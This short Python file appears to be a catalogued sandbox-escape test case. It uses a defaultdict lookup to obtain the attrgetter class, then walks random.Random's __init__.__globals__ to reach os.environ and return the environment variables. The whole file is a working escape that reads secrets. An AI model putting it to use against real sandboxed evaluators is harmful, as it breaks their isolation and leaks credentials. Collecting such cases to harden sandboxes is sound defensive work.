# family: computed
# Escape: a subscript *load* index is an operand, where type(x) is allowed; on a collections.defaultdict the load
# inserts the missing key, so `counts[type(getter)]` stores the attrgetter class, and iterating the dict gives it
# back. The class follows a run-time path "__init__.__globals__" from random.Random to os.environ.
import collections
import operator
import random


def tool(word: str = "globals") -> str:
    counts = collections.defaultdict(int)
    counts[type(operator.attrgetter("real"))]
    for getter in counts:
        return str(getter("__init__.__" + word + "__")(random.Random())["_os"].environ)
    return ""
